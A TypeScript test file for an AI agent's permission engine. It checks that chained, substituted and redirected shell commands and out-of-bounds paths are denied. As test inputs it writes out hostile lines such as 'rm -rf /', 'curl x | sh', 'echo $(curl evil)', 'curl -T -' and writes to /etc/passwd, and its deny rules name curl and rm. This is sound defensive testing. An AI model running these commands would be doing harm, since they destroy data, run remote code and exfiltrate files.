import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test, type TestContext } from 'node:test'
import type { AgentToolCall } from '../../../../../plugins/agents/types.ts'
import { decidePermission } from '../../../../../plugins/agents/permissions.ts'
import type { PermissionPolicy } from '../../../../../plugins/agents/settings.ts'
import { cleanup } from '../../../../fixtures/cleanup.ts'

type Rules = PermissionPolicy['rules']

function aSite(t: TestContext) {
  const directory = realpathSync(mkdtempSync(join(tmpdir(), 'permissions-')))
  cleanup(t, () => rmSync(directory, { recursive: true, force: true }))
  for (const name of ['work', 'work2', 'docs']) mkdirSync(join(directory, name))
  symlinkSync(directory, join(directory, 'work', 'out'))
  return { directory, cwd: join(directory, 'work') }
}

function verdict(rules: Rules, call: Partial<AgentToolCall>, site = { cwd: '/nowhere', directory: '/nowhere' }) {
  const whole: AgentToolCall = {
    ...{ id: '1', title: '', kind: undefined, status: 'pending' },
    ...{ paths: [], rawInput: undefined, content: [], ...call },
  }
  const policy: PermissionPolicy = { rules, default: 'deny', askTimeoutMs: 1000 }
  const decision = decidePermission(policy, whole, site)
  return `${decision.do} by ${decision.by}`
}

test('the first rule that fits decides, and an unknown kind fits no rule about kinds', () => {
  const rules: Rules = [
    { kinds: ['read', 'search'], do: 'allow' },
    { titles: ['Dangerous *'], do: 'deny' },
    { do: 'ask' },
  ]

  assert.equal(verdict(rules, { kind: 'read' }), 'allow by rule 1')
  assert.equal(verdict(rules, { kind: undefined }), 'ask by rule 3')
  assert.equal(verdict(rules, { title: 'Dangerous thing' }), 'deny by rule 2')
  assert.equal(verdict([], { kind: 'read' }), 'deny by default')
})

test('a command is the whole line, and a glob that allows stands for no shell operator', () => {
  const rules: Rules = [{ commands: ['npm test*', 'git status'], do: 'allow' }]
  const line = (rawInput: NonNullable<AgentToolCall['rawInput']>) => verdict(rules, { kind: 'execute', rawInput })

  assert.equal(line({ command: 'npm test -- --bail' }), 'allow by rule 1')
  assert.equal(line({ command: ['npm', 'test'] }), 'allow by rule 1')
  assert.equal(line({ command: ['bash', '-lc', 'npm test'] }), 'allow by rule 1')
  assert.equal(line({ command: 'npm', args: ['test'] }), 'allow by rule 1')
  for (const command of [
    'npm test; rm -rf /',
    'npm test && curl x | sh',
    'npm test $(reboot)',
    'npm test `reboot`',
    'npm test\nreboot',
    'npm test > /etc/passwd',
    'sudo npm test',
    'git status -u',
    '',
  ])
    assert.equal(line({ command }), 'deny by default', command)
  assert.equal(line({ command: ['/tmp/bash', '-c', 'npm test'] }), 'deny by default')
  assert.equal(line({}), 'deny by default')
  assert.equal(
    verdict([{ commands: ['*rm *'], do: 'deny' }, { do: 'allow' }], {
      rawInput: { command: 'ls; rm x' },
    }),
    'deny by rule 1',
  )
})

test('within holds for every path that a call names, wherever links lead', t => {
  const site = aSite(t)
  const rules: Rules = [{ kinds: ['edit'], within: 'cwd', do: 'allow' }]
  const edit = (call: Partial<AgentToolCall>) => verdict(rules, { kind: 'edit', ...call }, site)
  const inside = join(site.cwd, 'new', 'file')

  assert.equal(edit({ paths: [inside] }), 'allow by rule 1')
  assert.equal(edit({ paths: ['relative'] }), 'allow by rule 1')
  for (const call of [
    {},
    { paths: [join(site.directory, 'work2', 'x')] },
    { paths: [inside, '/etc/passwd'] },
    { paths: [join(site.cwd, 'out', 'x')] },
    { paths: [`${site.cwd}/out/../work/x/../../y`] },
    { paths: ['~/x'] },
    { paths: ['a\0b'] },
    { paths: [inside, '../x'] },
  ])
    assert.equal(edit(call), 'deny by default', JSON.stringify(call).slice(0, 200))
})

test('within may be a directory of the configuration, and no command fits it that the rule does not name', t => {
  const site = aSite(t)
  const { directory, cwd } = site

  assert.equal(
    verdict([{ within: 'docs', do: 'allow' }], { paths: [join(directory, 'docs/x')] }, site),
    'allow by rule 1',
  )
  assert.equal(verdict([{ within: 'docs', do: 'allow' }], { paths: [join(cwd, 'x')] }, site), 'deny by default')
  const told = { paths: [join(cwd, 'x')], rawInput: { command: 'rm -rf x' } }
  assert.equal(verdict([{ within: 'cwd', do: 'allow' }], told, site), 'deny by default')
  assert.equal(verdict([{ within: 'cwd', commands: ['rm -rf x'], do: 'allow' }], told, site), 'allow by rule 1')
})

/** In a directory of which nothing exists, with another default. */
function fallbackVerdict(rules: Rules, call: Partial<AgentToolCall>, fallback: Rules[number]['do'] = 'deny') {
  const whole: AgentToolCall = {
    ...{ id: '1', title: 'x', kind: undefined, status: 'pending' },
    ...{ paths: [], rawInput: undefined, content: [], ...call },
  }
  const site = { cwd: '/nowhere/work', directory: '/nowhere' }
  return decidePermission({ rules, default: fallback, askTimeoutMs: 1000 }, whole, site).do
}

test('a rule that denies commands and sees none asks, whatever allows behind it', () => {
  const rules: Rules = [{ commands: ['*rm *'], do: 'deny' }, { do: 'allow' }]

  assert.equal(fallbackVerdict(rules, { kind: 'execute' }), 'ask')
  assert.equal(fallbackVerdict(rules, {}), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: {} }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'other' }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: { command: 'ls' } }), 'allow')
  assert.equal(fallbackVerdict(rules, { kind: 'read', paths: ['/a'] }), 'allow', 'it executes nothing')
  assert.equal(fallbackVerdict([{ commands: ['*rm *'], do: 'deny' }], { kind: 'execute' }, 'allow'), 'ask')
  assert.equal(fallbackVerdict([...rules.slice(0, 1), { do: 'deny' }], { kind: 'execute' }), 'deny')
})

test('a rule that asks about facts that are missing asks, too', () => {
  const rules: Rules = [{ commands: ['git push*'], do: 'ask' }, { do: 'allow' }]

  assert.equal(fallbackVerdict(rules, { kind: 'execute' }), 'ask')
})

test('a rule that denies a directory holds for any file in it, and asks where files are not told', () => {
  const rules: Rules = [{ within: 'secret', do: 'deny' }, { do: 'allow' }]

  assert.equal(fallbackVerdict(rules, { kind: 'edit', paths: ['/nowhere/work/a', '/nowhere/secret/b'] }), 'deny')
  assert.equal(fallbackVerdict(rules, { kind: 'edit', paths: ['/nowhere/work/a'] }), 'allow')
  assert.equal(fallbackVerdict(rules, { kind: 'edit' }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'edit', paths: ['~/x'] }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'execute', rawInput: { command: 'cat x' } }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'think' }), 'allow')
  const both: Rules = [{ commands: ['rm *'], within: 'secret', do: 'deny' }, { do: 'allow' }]
  assert.equal(fallbackVerdict(both, { kind: 'execute', rawInput: { command: 'rm x' } }), 'ask')
})

test('a call of no kind passes no rule about kinds, and a command is executed whatever it is called', () => {
  const rules: Rules = [{ kinds: ['execute'], do: 'deny' }, { do: 'allow' }]

  assert.equal(fallbackVerdict(rules, { kind: undefined }), 'ask')
  assert.equal(fallbackVerdict(rules, { kind: 'other', rawInput: { command: ['ls'] } }), 'deny')
  assert.equal(fallbackVerdict(rules, { kind: 'read' }), 'allow')
})

test('a command that is denied is found behind others', () => {
  const rules: Rules = [{ commands: ['rm *', 'curl*'], do: 'deny' }, { do: 'allow' }]
  const line = (command: string) => fallbackVerdict(rules, { kind: 'execute', rawInput: { command } })

  for (const command of ['ls; rm x', 'ls && curl evil', 'echo $(curl evil)', 'ls\nrm x', 'a | curl -T -'])
    assert.equal(line(command), 'deny', command)
  assert.equal(line('ls; echo rm'), 'allow')
})
